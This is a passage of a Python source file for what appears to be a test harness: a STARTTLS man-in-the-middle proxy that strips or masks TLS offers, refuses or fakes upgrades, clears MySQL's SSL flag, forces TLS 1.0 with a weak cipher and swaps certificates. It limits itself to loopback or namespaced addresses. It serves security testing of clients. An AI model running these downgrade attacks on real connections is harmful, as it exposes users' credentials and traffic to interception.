            flags = int.from_bytes(packet[at:at + 2], "little")
            if flags & MYSQL_CLIENT_SSL:
                packet[at:at + 2] = (flags & ~MYSQL_CLIENT_SSL).to_bytes(2, "little")
                log("#%d: CLIENT_SSL cleared in the Handshake" % self.number)
        return bytes(packet) + buf[end:]

    # ------------------------------------------------------------ PostgreSQL

    async def pg_from_client(self, data):
        """The victim's first message, whole: an SSLRequest is answered by
        the proxy (refuse: N, accept-no-tls: S) and never forwarded;
        anything else (a StartupMessage, a GSSENCRequest, a forwarded
        SSLRequest) is relayed and so is everything after it."""
        buf = self.c2s_rest + data
        if len(buf) < 8:
            self.c2s_rest = buf
            return b""
        self.c2s_rest = b""
        if buf[:8] != PG_SSL_REQUEST or self.mode not in ("refuse", "accept-no-tls"):
            self.c2s = "raw"
            return buf
        rest = buf[8:]
        if self.mode == "refuse":
            log("#%d: refusing the upgrade (N)" % self.number)
            await self.to_victim(PG_REFUSAL)
            self.c2s = "raw"
            return rest
        log("#%d: accepting the upgrade (S), no TLS follows" % self.number)
        await self.to_victim(PG_GO_AHEAD)
        self.c2s = "swallow"
        if rest:
            await self.pg_swallow()
        return b""

    async def pg_swallow(self):
        """accept-no-tls: the ErrorResponse once, then the victim's side is
        closed."""
        if self.garbage_answered:
            return
        self.garbage_answered = True
        await self.to_victim(PG_GARBAGE_REPLY)
        half_close(self.cw)

    def xmpp_garbage_reply(self):
        return XMPP_GARBAGE_REPLY % (self.stream_id, self.stream_from)

    def break_handshake(self, data):
        if self.broken:
            return data
        self.first_tls += data
        if len(self.first_tls) < 6:
            return b""
        buf = bytearray(self.first_tls)
        self.first_tls = b""
        self.broken = True
        if buf[0] == TLS_HANDSHAKE and buf[5] == HS_SERVER_HELLO:
            buf[5] = HS_SERVER_HELLO_DONE
            log("#%d: ServerHello turned into ServerHelloDone" % self.number)
        return bytes(buf)

    # ------------------------------------------------------------ FTP data

    async def ftp_passive(self, line):
        """A server line; a passive-mode reply is rewritten to announce a
        listener of the proxy that relays to the server's data port."""
        m = FTP_PASV.match(line)
        if m:
            port = int(m.group(5)) * 256 + int(m.group(6))
            mine = await self.data_listen(port)
            addr = self.args.listen[0].replace(".", ",").encode()
            return (line[:m.start(1)] + addr + b",%d,%d" % (mine >> 8, mine & 0xff)
                    + line[m.end(6):])
        m = FTP_EPSV.match(line)
        if m:
            mine = await self.data_listen(int(m.group(2)))
            return line[:m.start(2)] + b"%d" % mine + line[m.end(2):]
        return line

    async def data_listen(self, port):
        """Listens for one data connection of the victim on the proxy's
        address (on port when it is free) and returns the port."""
        host = self.args.listen[0]
        holder = {}

        async def accepted(reader, writer):
            holder["server"].close()
            task = asyncio.current_task()
            self.data_tasks.append(task)
            await self.data_relay(port, reader, writer)

        try:
            server = await asyncio.start_server(accepted, host, port, reuse_address=True)
        except OSError:
            server = await asyncio.start_server(accepted, host, 0, reuse_address=True)
        holder["server"] = server
        self.data_servers.append(server)
        mine = server.sockets[0].getsockname()[1]
        log("#%d: passive data: %s:%d relays to %s:%d" % (self.number, host, mine,
                                                          self.args.upstream[0], port))
        return mine

    async def data_relay(self, port, c_reader, c_writer):
        c_writer.get_extra_info("socket").setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        sock.bind((self.args.source, 0))
        sock.setblocking(False)
        try:
            await asyncio.get_running_loop().sock_connect(sock, (self.args.upstream[0], port))
        except OSError as err:
            log("#%d: data connection to port %d: %r" % (self.number, port, err))
            sock.close()
            reset(c_writer)
            return
        s_reader, s_writer = await asyncio.open_connection(sock=sock)
        peer = c_writer.get_extra_info("peername")
        log("#%d: data connection %s:%d -> %s:%d" % (self.number, peer[0], peer[1],
                                                      self.args.upstream[0], port))

        async def pipe(reader, writer):
            while True:
                data = await read_or_reset(reader)
                if data is None:
                    reset(writer)
                    return
                if not data:
                    half_close(writer)
                    return
                writer.write(data)
                await writer.drain()

        await asyncio.gather(pipe(c_reader, s_writer), pipe(s_reader, c_writer),
                             return_exceptions=True)
        s_writer.close()
        c_writer.close()
        log("#%d: data connection to port %d closed" % (self.number, port))

    async def data_close(self):
        """Closes the listeners nobody connected to, waits for the relays."""
        for server in self.data_servers:
            server.close()
        pending = [t for t in self.data_tasks if not t.done()]
        if pending:
            await asyncio.wait(pending, timeout=10)

    # ------------------------------------------------------------ client lines

    async def from_client(self, data):
        """Handles a chunk from the victim; returns bytes for the server."""
        if self.c2s == "raw":
            return data
        if self.c2s == "swallow":
            # accept-no-tls: the ClientHello meets a server that reads text.
            if self.proto == "xmpp":
                await self.xmpp_swallow()
            elif self.proto == "postgres":
                await self.pg_swallow()
            elif GARBAGE_REPLY[self.proto] is not None:
                await self.to_victim(GARBAGE_REPLY[self.proto])
            return b""
        if self.proto == "xmpp":
            return await self.xmpp_from_client(data)
        if self.proto == "postgres":
            return await self.pg_from_client(data)
        lines, self.c2s_rest = split_lines(self.c2s_rest + data)
        out = []
        for i, line in enumerate(lines):
            words = line.split()
            if self.proto == "pop3" and words and words[0].upper() == b"CAPA":
                self.in_capa = True
            if self.proto == "nntp" and words and words[0].upper() == b"CAPABILITIES":
                self.in_capa = True
            if self.proto == "ftp" and words and words[0].upper() == b"FEAT":
                self.in_feat = True
            tag = self.upgrade_command(line)
            if tag is None:
                out.append(line)
                continue
            rest = b"".join(lines[i + 1:]) + self.c2s_rest
            self.c2s_rest = b""
            if self.mode == "refuse":
                log("#%d: refusing the upgrade" % self.number)
                await self.to_victim(self.fill(REFUSAL[self.proto], tag))
                self.c2s_rest = rest
                rest_out = await self.from_client(b"") if rest else b""
                return b"".join(out) + rest_out
            if self.mode == "accept-no-tls":
                log("#%d: accepting the upgrade, no TLS follows" % self.number)
                await self.to_victim(self.fill(GO_AHEAD[self.proto], tag))
                self.c2s = "swallow"
                if rest and GARBAGE_REPLY[self.proto] is not None:
                    await self.to_victim(GARBAGE_REPLY[self.proto])
                return b"".join(out)
            if self.mode == "weak-tls":
                log("#%d: terminating TLS with the victim (TLS 1.0, %s)" % (self.number,
                                                                          WEAK_SUITE))
                await self.to_victim(self.fill(GO_AHEAD[self.proto], tag))
                self.c2s = "tls"
                self.tls_pending = rest
                return b"".join(out)
            if self.mode == "swap-cert":
                # Forwarded; the victim's next bytes wait for the answer.
                self.upgrade_tag = tag
                self.c2s = "await-upgrade"
                self.tls_pending = rest
                out.append(line)
                return b"".join(out)
            if self.mode == "mask-command":
                log("#%d: masking the client's upgrade command" % self.number)
                out.append(self.masked_command(line, tag))
                self.c2s_rest = rest
                if rest:
                    out.append(await self.from_client(b""))
                return b"".join(out)
            # The upgrade goes through: everything after it is relayed as is.
            self.upgrade_tag = tag
            out.append(line)
            self.c2s = "raw"
            out.append(rest)
            return b"".join(out)
        return b"".join(out)

    async def xmpp_swallow(self):
        """accept-no-tls: Prosody's answer to a stream that does not start
        with XML, once; then it closes the victim's connection, as Prosody
        does after a stream error."""
        if self.garbage_answered:
            return
        self.garbage_answered = True
        await self.to_victim(self.xmpp_garbage_reply())
        half_close(self.cw)

    async def to_victim(self, data):
        if data:
            self.cw.write(data)
            await self.cw.drain()

    # ------------------------------------------------------------ weak TLS

    async def victim_tls_pump(self):
        """weak-tls: the TLS handshake with the victim, driven through an
        SSLObject over the TCP stream; False when the victim went away."""
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        if self.mode == "swap-cert":
            ctx.load_cert_chain(self.args.cert, self.args.key)
            ctx.maximum_version = ssl.TLSVersion.TLSv1_2

            def sni(_obj, name, _ctx):
                self.victim_sni = name
            ctx.sni_callback = sni
        else:
            with warnings.catch_warnings():
                warnings.simplefilter("ignore", DeprecationWarning)
                ctx.minimum_version = ssl.TLSVersion.TLSv1
                ctx.maximum_version = ssl.TLSVersion.TLSv1
            ctx.set_ciphers(WEAK_SUITE + ":@SECLEVEL=0")
        inc, outg = ssl.MemoryBIO(), ssl.MemoryBIO()
        obj = ctx.wrap_bio(inc, outg, server_side=True)
        self.tls_victim = (obj, inc, outg)
        if self.tls_pending:
            inc.write(self.tls_pending)
        while True:
            try:
                obj.do_handshake()
                break
            except ssl.SSLWantReadError:
                await self.flush_victim_tls()
                data = await read_or_reset(self.cr)
                if not data:
                    log("#%d: the victim left during its TLS handshake" % self.number)
                    return False
                inc.write(data)
            except ssl.SSLError as err:
                # The victim's alert (a certificate it refused): sent on.
                await self.flush_victim_tls()
                log("#%d: victim TLS handshake failed: %s" % (self.number, err))
                return False
        await self.flush_victim_tls()
        log("#%d: victim TLS up: %s %s" % (self.number, obj.version(), obj.cipher()[0]))
        return True

    async def flush_victim_tls(self):
        _, _, outg = self.tls_victim
        pending = outg.read()
        if pending:
            self.cw.write(pending)
            await self.cw.drain()

    async def victim_tls_read(self):
        obj, inc, _ = self.tls_victim
        while True:
            try:
                return obj.read(65536)
            except ssl.SSLWantReadError:
                data = await read_or_reset(self.cr)
                if not data:
                    return b""
                inc.write(data)
            except (ssl.SSLZeroReturnError, ssl.SSLEOFError):
                return b""

    async def victim_tls_write(self, data):
        obj, _, _ = self.tls_victim
        obj.write(data)
        await self.flush_victim_tls()

    # ------------------------------------------------------------ pumps

    async def pump_c2s(self):
        while True:
            if self.c2s == "await-upgrade":
                await self.upgrade_decided.wait()
                if self.c2s == "plain" and self.tls_pending:
                    # Refused: what the victim pipelined after the command.
                    out = await self.from_client(self.tls_pending)
                    self.tls_pending = b""
                    if out:
                        self.sw.write(out)
                        await self.sw.drain()
                continue
            if self.c2s == "tls":
                await self.pump_c2s_tls()
                break
            data = await read_or_reset(self.cr)
            if data is None:
                reset(self.sw)
                return
            if not data:
                if self.c2s_rest and self.c2s == "plain":
                    self.sw.write(self.c2s_rest)
                if self.xml_c.rest and self.c2s == "plain":
                    self.sw.write(self.xml_c.rest)
                break
            out = await self.from_client(data)
            if out:
                self.sw.write(out)
                await self.sw.drain()
        if self.sw.get_extra_info("ssl_object") is not None:
            # swap-cert: TLS has no half close. The server's answer to a
            # last command (221 to QUIT) may still come: a few seconds for
            # the server to close first, then close_notify and FIN.
            try:
                await asyncio.wait_for(self.server_done.wait(), 5)
            except asyncio.TimeoutError:
                pass
            self.sw.close()
            return
        half_close(self.sw)

    async def pump_c2s_tls(self):
        ok = await self.victim_tls_pump()
        self.victim_ok = ok
        self.victim_done.set()
        if not ok:
            return
        self.tls_up.set()
        if self.mode == "swap-cert":
            await self.upstream_up.wait()
        while True:
            data = await self.victim_tls_read()
            if not data:
                return
            self.sw.write(data)
            await self.sw.drain()

    async def pump_s2c(self):
        try:
            await self.pump_s2c_loop()
        finally:
            self.server_done.set()

    async def pump_s2c_loop(self):
        while True:
            data = await read_or_reset(self.sr)
            if data is None:
                reset(self.cw)
                return
            if not data:
                if self.s2c_rest:
                    await self.victim_write(self.s2c_rest)
                if self.xml_s.rest:
                    await self.victim_write(self.xml_s.rest)
                break
            out = await self.from_server(data)
            if out:
                await self.victim_write(out)
            if self.upstream_tls:
                self.upstream_tls = False
                if not await self.upstream_start():
                    break
        if self.tls_victim is not None:
            try:
                self.tls_victim[0].unwrap()
            except ssl.SSLError:
                pass
            await self.flush_victim_tls()
        half_close(self.cw)

    async def upstream_start(self):
        """swap-cert: once the victim's handshake is done, the proxy's own
        TLS session with the server over the same connection (at most TLS
        1.2, no certificate check); False when there is none to make."""
        await self.victim_done.wait()
        if not self.victim_ok:
            log("#%d: no TLS with the server, closing its connection" % self.number)
            self.sw.close()
            return False
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.maximum_version = ssl.TLSVersion.TLSv1_2
        await self.sw.start_tls(ctx, server_hostname=self.victim_sni,
                                ssl_handshake_timeout=SWAP_HANDSHAKE_TIMEOUT)
        obj = self.sw.get_extra_info("ssl_object")
        log("#%d: server TLS up: %s %s" % (self.number, obj.version(), obj.cipher()[0]))
        self.upstream_up.set()
        return True

    async def victim_write(self, data):
        if self.c2s == "tls":
            await self.tls_up.wait()
            try:
                await self.victim_tls_write(data)
            except ssl.SSLError as err:
                # The victim sent its close_notify first (after its QUIT).
                log("#%d: %d bytes not delivered, the victim's TLS is closed: %s"
                    % (self.number, len(data), err.reason))
        else:
            await self.to_victim(data)

    async def run(self):
        host, port = self.args.upstream
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        sock.bind((self.args.source, 0))
        sock.setblocking(False)
        await asyncio.get_running_loop().sock_connect(sock, (host, port))
        self.sr, self.sw = await asyncio.open_connection(sock=sock)
        peer = self.cw.get_extra_info("peername")
        log("#%d: %s:%d -> %s:%d, mode %s" % (self.number, peer[0], peer[1], host, port,
                                              self.mode))
        tasks = [asyncio.create_task(self.pump_c2s()), asyncio.create_task(self.pump_s2c())]
        done, pending = await asyncio.wait(tasks, timeout=self.args.timeout)
        for t in pending:
            log("#%d: still open after %.0f s, closing" % (self.number, self.args.timeout))
            t.cancel()
        for t in done:
            if t.exception() is not None:
                log("#%d: %r" % (self.number, t.exception()))
        await self.data_close()
        self.sw.close()
        self.cw.close()
        log("#%d: closed" % self.number)


class Proxy:
    def __init__(self, args):
        self.args = args
        self.accepted = 0
        self.finished = 0
        self.done = asyncio.Event()

    async def handle(self, reader, writer):
        sock = writer.get_extra_info("socket")
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        number = self.accepted
        self.accepted += 1
        mode = self.args.modes[min(number, len(self.args.modes) - 1)]
        try:
            await Relay(self.args, mode, number + 1, reader, writer).run()
        except OSError as err:
            log("#%d: %r" % (number + 1, err))
            writer.close()
        self.finished += 1
        if self.args.count and self.finished >= self.args.count:
            self.done.set()

    async def serve(self):
        host, port = self.args.listen
        server = await asyncio.start_server(self.handle, host, port, reuse_address=True)
        loop = asyncio.get_running_loop()
        for sig in (signal.SIGTERM, signal.SIGINT):
            loop.add_signal_handler(sig, self.done.set)
        log("listening on %s:%d (%s, modes %s)" % (host, port, self.args.proto,
                                                   ",".join(self.args.modes)))
        if self.args.ready:
            with open(self.args.ready + ".tmp", "w") as f:
                f.write("%d\n" % os.getpid())
            os.rename(self.args.ready + ".tmp", self.args.ready)
        await self.done.wait()
        server.close()
        await server.wait_closed()
        log("stopped after %d connection(s)" % self.finished)


def in_own_netns():
    """True inside a named network namespace (`ip netns add`, bound under
    /run/netns): one a test made, whose addresses reach nothing outside it."""
    try:
        me = os.stat("/proc/self/ns/net")
        for name in os.listdir("/run/netns"):
            st = os.stat(os.path.join("/run/netns", name))
            if (st.st_dev, st.st_ino) == (me.st_dev, me.st_ino):
                return True
    except OSError:
        pass
    return False


def address_allowed(host):
    """Loopback anywhere; 10.0.0.0/8 only inside a namespace of its own
    (tests/live/run.sh's two-taps case: a transparent interceptor between
    two namespaces)."""
    return host.startswith("127.") or (host.startswith("10.") and in_own_netns())


def host_port(text):
    host, _, port = text.rpartition(":")
    if not host or not port.isdigit():
        raise argparse.ArgumentTypeError("ADDR:PORT expected: %s" % text)
    if not address_allowed(host):
        raise argparse.ArgumentTypeError(
            "loopback (127.0.0.0/8) only, or 10.0.0.0/8 inside a network namespace: %s" % text)
    return host, int(port)


# An XMPP opening as Prosody and slixmpp write it, in the units XmlFramer
# must find, for self_test: features with a <starttls/> that has a child,
# attribute values with '>' and '/>' in quotes, a comment, text between
# elements, then the first TLS bytes.
SELF_TEST_UNITS = [
    ("decl", b"<?xml version='1.0'?>"),
    ("open", b"<stream:stream xmlns='jabber:client' id='a>b' from='x/>'>"),
    ("element", b"<stream:features><starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'>"
                b"<required/></starttls><mechanisms xmlns='urn:ietf:params:xml:ns:xmpp-sasl'>"
                b"<mechanism>PLAIN</mechanism></mechanisms></stream:features>"),
    ("text", b" \n"),
    ("element", b"<!-- a > b -->"),
    ("element", b"<iq type='get' id=\"q>1\"><ping xmlns='urn:xmpp:ping' to='/>'/></iq>"),
    ("element", b"<proceed xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>"),
    ("text", b"\x16\x03\x01"),
]


def self_test():
    """XmlFramer cuts the bytes of SELF_TEST_UNITS into those units whatever
    the reads (every fixed chunk size, then random cuts; text may come in
    pieces), and strip and mask touch only the <starttls/> of the
    features; 0 when all holds."""
    import random
    stream = b"".join(u for _, u in SELF_TEST_UNITS)
    rng = random.Random(10)
    cuts = [[n] * (len(stream) // n + 1) for n in range(1, len(stream) + 1)]
    cuts += [[rng.randint(1, 40) for _ in range(len(stream))] for _ in range(200)]
    for sizes in cuts:
        framer, units, at = XmlFramer(), [], 0
        for n in sizes:
            for kind, unit in framer.feed(stream[at:at + n]):
                if kind == "text" and units and units[-1][0] == "text":
                    units[-1] = ("text", units[-1][1] + unit)
                else:
                    units.append((kind, unit))
            at += n
            if at >= len(stream):
                break
        if units != SELF_TEST_UNITS or framer.rest:
            print("mitm self-test: chunks %r...: %r" % (sizes[:8], units), file=sys.stderr)
            return 1
    features = SELF_TEST_UNITS[2][1]
    tail = (b"<mechanisms xmlns='urn:ietf:params:xml:ns:xmpp-sasl'><mechanism>PLAIN"
            b"</mechanism></mechanisms></stream:features>")
    for mode, want in (("strip", b"<stream:features>" + tail),
                       ("mask", b"<stream:features><XXXXXXXX xmlns='urn:ietf:params:xml:ns:"
                                b"xmpp-tls'><required/></XXXXXXXX>" + tail)):
        relay = Relay.__new__(Relay)
        relay.mode, relay.number = mode, 0
        got = XMPP_STARTTLS_FEATURE.sub(relay.xmpp_tamper_starttls, features)
        if got != want:
            print("mitm self-test: %s: %r" % (mode, got), file=sys.stderr)
            return 1
    print("mitm self-test: XmlFramer and the XMPP tampering hold for %d ways of cutting"
          % len(cuts), file=sys.stderr)
    return 0


def main():
    if sys.argv[1:] == ["--self-test"]:
        return self_test()
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--listen", type=host_port, required=True)
    parser.add_argument("--upstream", type=host_port, required=True)
    parser.add_argument("--proto", required=True,
                        choices=["smtp", "imap", "pop3", "ftp", "nntp", "irc", "sieve", "xmpp",
                                 "mysql", "postgres"])
    parser.add_argument("--modes", required=True)
    parser.add_argument("--source", help="upstream source address (default: listen address)")
    parser.add_argument("--count", type=int, default=0)
    parser.add_argument("--ready")
    parser.add_argument("--timeout", type=float, default=60.0,
                        help="seconds a connection may last")
    parser.add_argument("--cert", help="swap-cert: the proxy's certificate (PEM)")
    parser.add_argument("--key", help="swap-cert: its private key (PEM)")
    args = parser.parse_args()
    args.modes = args.modes.split(",")
    for m in args.modes:
        if m not in MODES:
            parser.error("unknown mode %s (one of %s)" % (m, ", ".join(MODES)))
    if "preauth" in args.modes and args.proto != "imap":
        parser.error("preauth is an IMAP mode")
    if "weak-tls" in args.modes and args.proto in ("ftp", "xmpp"):
        parser.error("weak-tls is not for %s" % args.proto.upper())
    if "swap-cert" in args.modes:
        if args.proto in ("ftp", "xmpp", "mysql", "postgres"):
            parser.error("swap-cert is not for %s" % args.proto)
        if not args.cert or not args.key:
            parser.error("swap-cert needs --cert FILE and --key FILE")
    binary = {"mysql": ("pass", "strip"), "postgres": ("pass", "refuse", "accept-no-tls")}
    for m in args.modes:
        if args.proto in binary and m not in binary[args.proto]:
            parser.error("%s is not a mode for %s (%s)" % (m, args.proto,
                                                          ", ".join(binary[args.proto])))
    if "mask" in args.modes and args.proto == "irc":
        parser.error("mask is not for IRC: its token \"tls\" masked is \"XXX\", which does"
                     " not look masked")
    args.source = args.source or args.listen[0]
    if not address_allowed(args.source):
        parser.error("loopback (127.0.0.0/8) only, or 10.0.0.0/8 inside a network namespace: %s"
                     % args.source)
    asyncio.run(Proxy(args).serve())
    return 0


if __name__ == "__main__":
    sys.exit(main())
